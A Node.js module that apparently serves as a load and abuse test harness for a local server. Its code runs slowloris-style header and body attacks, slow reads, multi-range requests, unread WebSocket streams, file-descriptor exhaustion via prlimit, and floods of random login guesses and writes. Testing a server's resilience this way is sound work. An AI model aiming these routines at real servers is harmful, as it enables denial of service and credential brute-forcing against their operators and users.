// What somebody may do to a server with nothing but connections. Each attack runs until stop().
import { spawnSync } from 'node:child_process';
import { readdirSync } from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import { randomBytes } from 'node:crypto';

const ATTACKER = '127.0.0.9';
// One address may have 256 connections: an attacker with more of them has more addresses.
const OF_ONE_ADDRESS = 250;

class Connections {
  constructor(url, count, { open, every, interval = 1000 }) {
    const { port, hostname } = new URL(url);
    const addresses = Array.from({ length: Math.ceil(count / OF_ONE_ADDRESS) }, (_, i) => `127.0.0.${9 + i}`);
    let number = 0;
    this.sockets = new Set();
    this.opened = 0;
    const connect = () => {
      if (this.stopped || this.sockets.size >= count) return;
      const socket = net.connect({ port: Number(port), host: hostname, localAddress: addresses[number++ % addresses.length] });
      this.sockets.add(socket);
      socket.once('connect', () => (this.opened += 1, open?.(socket)));
      socket.once('error', () => {});
      socket.once('close', () => this.sockets.delete(socket));
    };
    // A fifth of them a beat, so that those that the server ends are replaced.
    const fill = () => { for (let i = 0; i < Math.max(1, count / 5); ++i) connect(); };
    fill();
    this.beat = setInterval(() => {
      for (const socket of this.sockets) if (!socket.destroyed && socket.writable) every?.(socket);
      fill();
    }, interval);
  }

  stop() {
    this.stopped = true;
    clearInterval(this.beat);
    for (const socket of this.sockets) socket.destroy();
  }
}

// How many descriptors a process may have, and setting it; by prlimit of util-linux.
function softLimit(pid, wanted) {
  const words = wanted ? [`--nofile=${wanted}:`] : ['--nofile', '--raw', '--noheadings', '--output=SOFT'];
  const done = spawnSync('prlimit', ['--pid', String(pid), ...words], { encoding: 'utf8' });
  if (done.status !== 0) throw new Error(`prlimit: ${done.stderr}`);
  return Number(done.stdout);
}

export const ATTACKS = {
  // A header that never ends, a line at a time.
  header: (url, count) => new Connections(url, count, {
    open: (socket) => socket.write('GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n'),
    every: (socket) => socket.write('X-More: yes\r\n'),
  }),
  // A body that comes byte by byte.
  body: (url, count) => new Connections(url, count, {
    open: (socket) => socket.write('POST /api/v1/session HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n'),
    every: (socket) => socket.write('x'),
  }),
  // Large answers asked for and not read.
  read: (url, count) => new Connections(url, count, {
    open: (socket) => {
      socket.pause();
      socket.write('GET /api/v1/problem-reports?limit=200 HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n'.repeat(20));
    },
  }),
  // Many ranges of one resource.
  range: (url, count) => new Connections(url, count, {
    open: (socket) => socket.write(`GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nRange: bytes=0-,${Array.from({ length: 800 }, (_, i) => `5-${i}`).join(',')}\r\n\r\n`),
    every: (socket) => socket.end(),
  }),
  // Live streams that ask for the whole log and read nothing of it.
  live: (url, count) => new Connections(url, count, {
    open: (socket) => {
      socket.write(`GET /live HTTP/1.1\r\nHost: ${new URL(url).host}\r\nOrigin: ${url}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${randomBytes(16).toString('base64')}\r\n\r\n`);
      socket.once('data', () => {
        socket.pause();
        const payload = Buffer.from('{"subscribe":{},"since":0}');
        socket.write(Buffer.concat([Buffer.from([0x81, 0x80 | payload.length, 0, 0, 0, 0]), payload]));
      });
    },
  }),
  // Every descriptor that the server may have: users hold their connections, nobody gets a new one.
  descriptors: Object.assign((url, count, { pid }) => {
    const before = softLimit(pid);
    softLimit(pid, readdirSync(`/proc/${pid}/fd`).length + 40);
    const connections = new Connections(url, Math.max(count, 80), { open: (socket) => socket.write('GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n') });
    return { get opened() { return connections.opened; }, stop: () => (connections.stop(), softLimit(pid, before)) };
  }, { usersFirst: true }),
  // Passwords guessed, many at once.
  login: (url, count) => new Flood(url, Math.min(count, 64), () => ({
    method: 'POST', path: '/api/v1/session', headers: { 'content-type': 'application/json', origin: url },
    body: JSON.stringify({ user: `guess-${randomBytes(3).toString('hex')}`, password: randomBytes(12).toString('hex') }),
  })),
  // Far more writes than can be carried: refused ones cost a turn of the writer as well.
  writes: (url, count, { office }) => new Flood(url, Math.min(count, 256), () => office.write()),
};

// The same request over and over, on so many connections.
class Flood {
  constructor(url, count, make) {
    this.statuses = new Map();
    this.agent = new http.Agent({ keepAlive: true, maxSockets: count, localAddress: ATTACKER });
    const { hostname, port } = new URL(url);
    const go = () => {
      if (this.stopped) return;
      const { body, ...options } = make();
      const request = http.request({ hostname, port, agent: this.agent, ...options }, (answer) => {
        this.statuses.set(answer.statusCode, (this.statuses.get(answer.statusCode) ?? 0) + 1);
        answer.resume();
        answer.once('end', go);
      });
      request.once('error', () => setTimeout(go, 100));
      request.end(body);
    };
    for (let i = 0; i < count; ++i) go();
  }

  stop() {
    this.stopped = true;
    this.agent.destroy();
  }
}
